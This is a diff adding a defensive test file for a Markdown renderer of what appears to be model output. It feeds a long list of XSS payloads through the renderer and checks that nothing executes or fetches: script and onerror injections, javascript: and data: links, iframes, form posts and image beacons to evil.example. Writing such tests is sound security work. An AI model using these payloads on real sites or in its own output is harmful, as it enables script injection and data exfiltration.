@@ -1,0 +1,174 @@
+// Hostile output: whatever a model says, the page runs nothing, fetches nothing and goes nowhere by itself.
+
+import { describe, expect, test } from "vitest";
+import { render } from "preact";
+import { safeAddress } from "../src/text/address.ts";
+import { decoded } from "../src/text/entities.ts";
+import { MOST_MARKDOWN, nodesOf } from "../src/text/nodes.tsx";
+import { highlightLines, languageOf, linesOf, MOST_CODE } from "../src/text/highlight.ts";
+
+function drawn(text: string, definitions: readonly string[] = []): HTMLElement {
+  const place = document.createElement("div");
+  render(nodesOf(text, definitions), place);
+  return place;
+}
+
+const ALLOWED = new Set(
+  "P BR HR STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI A DIV TABLE THEAD TBODY TR TH TD H3 H4 H5 H6 FIGURE FIGCAPTION SPAN BUTTON svg path".split(" "),
+);
+
+/** Everything that could act: other elements, handlers, styles, addresses that are not the web's. */
+function dangers(place: HTMLElement): string[] {
+  const found: string[] = [];
+  for (const element of place.querySelectorAll("*")) {
+    if (!ALLOWED.has(element.nodeName)) found.push(element.nodeName);
+    for (const { name, value } of element.attributes) {
+      if (name.startsWith("on") || ["style", "src", "srcset", "id", "name", "srcdoc", "action", "formaction", "background", "data", "poster", "xlink:href"].includes(name)) found.push(name);
+      if (name === "href" && !/^(https?:\/\/|mailto:)/.test(value)) found.push(value);
+    }
+  }
+  return found;
+}
+
+const HOSTILE = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)><animate onbegin=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
+  "<iframe src='https://evil.example'></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<object data='https://evil.example'></object><embed src='https://evil.example'>",
+  "<a href='javascript:alert(1)'>click</a>",
+  "[click](javascript:alert(1))",
+  "[click](JaVaScRiPt:alert(1))",
+  "[click](java\tscript:alert(1))",
+  "[click](&#106;avascript:alert(1))",
+  "[click](\u0001javascript:alert(1))",
+  "[click](vbscript:msgbox(1))",
+  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[click](file:///etc/passwd)",
+  "[click](//evil.example/x)",
+  "[click](/v1/control)",
+  "[click][x]\n\n[x]: javascript:alert(1)",
+  "<javascript:alert(1)>",
+  "![beacon](https://evil.example/pixel.png?secret=1)",
+  "![beacon][x]\n\n[x]: https://evil.example/pixel.png",
+  "![](//evil.example/pixel.png)",
+  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+  '![x" onerror="alert(1)](https://evil.example)',
+  '[x](https://evil.example "t\\" onmouseover=\\"alert(1)")',
+  "<form action='https://evil.example'><input name=token><button>go</button></form>",
+  "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example'</style>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+  "<base href='https://evil.example/'>",
+  "<p style='background:url(https://evil.example)'>x</p>",
+  "<div id=app name=token class=dialog>clobbered</div>",
+  "<details open ontoggle=alert(1)>",
+  "<video poster='https://evil.example'><source src='https://evil.example'></video>",
+  "```js\" onclick=\"alert(1)\nx\n```",
+  "```<img/src/onerror=alert(1)>\nx\n```",
+  "`<img src=x onerror=alert(1)>`",
+  "| <img src=x onerror=alert(1)> | a |\n|---|---|\n| <script>x</script> | [b](javascript:x) |",
+  "- <script>alert(1)</script>\n- [ ] <img src=x>",
+  "> <script>alert(1)</script>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<?xml version='1.0'?><script>alert(1)</script>",
+  "</div></div><script>alert(1)</script>",
+];
+
+describe("hostile output", () => {
+  test.each(HOSTILE)("%s", (text) => {
+    const place = drawn(text);
+    expect(dangers(place)).toEqual([]);
+    // Also when it comes as a part of something else.
+    expect(dangers(drawn(`# A title\n\ntext before ${text} and after\n\n1. ${text}`))).toEqual([]);
+  });
+
+  test("HTML is shown as the text that it is", () => {
+    expect(drawn("<script>alert(1)</script>").textContent).toContain("<script>alert(1)</script>");
+    expect(drawn("a <b>bold</b> word").textContent?.trim()).toBe("a <b>bold</b> word");
+  });
+
+  test("a picture is a link that nobody follows by himself", () => {
+    const place = drawn("![a chart](https://elsewhere.example/chart.png)");
+    const [link] = place.querySelectorAll("a");
+    expect(place.querySelector("img")).toBeNull();
+    expect([link?.textContent, link?.getAttribute("href")]).toEqual(["a chart", "https://elsewhere.example/chart.png"]);
+    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
+    expect(link?.getAttribute("target")).toBe("_blank");
+  });
+
+  test("definitions cannot smuggle anything in", () => {
+    expect(dangers(drawn("see [x] and ![y][x]", ["[x]: javascript:alert(1)", "[x]: <img src=x onerror=alert(1)>"]))).toEqual([]);
+    expect(drawn("see [x]", ["[x]: https://example.org/"]).querySelector("a")?.getAttribute("href")).toBe("https://example.org/");
+  });
+
+  test("huge and deep input is shown, plainly, and soon", () => {
+    const huge = "**word** ".repeat(MOST_MARKDOWN);
+    expect(drawn(huge).querySelectorAll("strong")).toHaveLength(0);
+    expect(drawn(huge).textContent).toBe(huge);
+    for (const text of [">".repeat(20_000), "- ".repeat(20_000), "[".repeat(20_000), "*a_ ".repeat(10_000), "`".repeat(30_001), "((".repeat(20_000), "![".repeat(15_000), "<".repeat(50_000), "\\".repeat(50_000), "|".repeat(20_000) + "\n" + "|-".repeat(10_000)]) {
+      // What explodes does not end before the test's time is over.
+      expect(dangers(drawn(text))).toEqual([]);
+    }
+  });
+});
+
+test("signs that are written by name", () => {
+  expect(drawn("&copy; &lt;b&gt; &#65;&#x42; &unknown; &#0; `&lt;`").textContent).toBe("© <b> AB &unknown; \ufffd &lt;");
+  expect(decoded("&constructor; &__proto__;")).toBe("&constructor; &__proto__;");
+});
+
+describe("addresses", () => {
+  test.each([
+    ["https://example.org/a?b#c", "https://example.org/a?b#c"],
+    ["HTTP://example.org", "http://example.org/"],
+    ["mailto:a@example.org", "mailto:a@example.org"],
+    [" \thttps://example.org ", "https://example.org/"],
+    ["javascript:alert(1)", ""],
+    ["https:", ""],
+    ["ftp://example.org", ""],
+    ["/relative", ""],
+    ["#here", ""],
+    ["", ""],
+  ])("%j", (given, safe) => expect(safeAddress(given)).toBe(safe));
+});
+
+test("what Markdown is for comes through", () => {
+  const place = drawn("# T\n\n- a\n- **b** `c` ~~d~~\n\n1. x\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [x] done\n\nhttps://example.org/");
+  expect(place.querySelector(".title-1")?.textContent).toBe("T");
+  expect(place.querySelectorAll("li")).toHaveLength(4);
+  expect(place.querySelector("td.right")?.textContent).toBe("2");
+  expect(place.querySelector("del")?.textContent).toBe("d");
+  expect(place.textContent).toContain("☑ done");
+  expect(place.querySelector("a")?.getAttribute("href")).toBe("https://example.org/");
+  expect(drawn("7. seven").querySelector("ol")?.getAttribute("start")).toBe("7");
+});
+
+describe("colours", () => {
+  test("are tokens, line by line, and their text is the code", async () => {
+    const code = 'def f(a):\n    """Doc\n    <b>&amp;"""\n    return "x" < 1 & 2\n';
+    const lines = await highlightLines(code, "py");
+    expect(lines?.map((line) => line.map((token) => token.text).join("")).join("\n")).toBe(code);
+    expect(lines?.[0]?.[0]).toEqual({ text: "def", kind: "hljs-keyword" });
+    expect(lines?.[2]?.every((token) => token.kind === "hljs-string")).toBe(true);
+  });
+
+  test("what is too long or not known stays plain", async () => {
+    expect(await highlightLines("x".repeat(MOST_CODE + 1), "python")).toBeNull();
+    expect(await highlightLines("x", "brainfuck")).toBeNull();
+    expect(await highlightLines("x", "")).toBeNull();
+    expect(await highlightLines("x", "__proto__")).toBeNull();
+    expect(await highlightLines("x", "constructor")).toBeNull();
+  });
+
+  test("nothing but the spans of highlight.js is taken for a tag", () => {
+    expect(linesOf("a<b>&copy;</b>")).toEqual([[{ text: "a<b>&copy;</b>", kind: "" }]]);
+  });
+
+  test("files are known by their names", () => {
+    expect(["a/b.py", "Dockerfile", "x.tsx", "noending", "a.unknown"].map(languageOf)).toEqual(["python", "dockerfile", "typescript", "", ""]);
+  });
+});
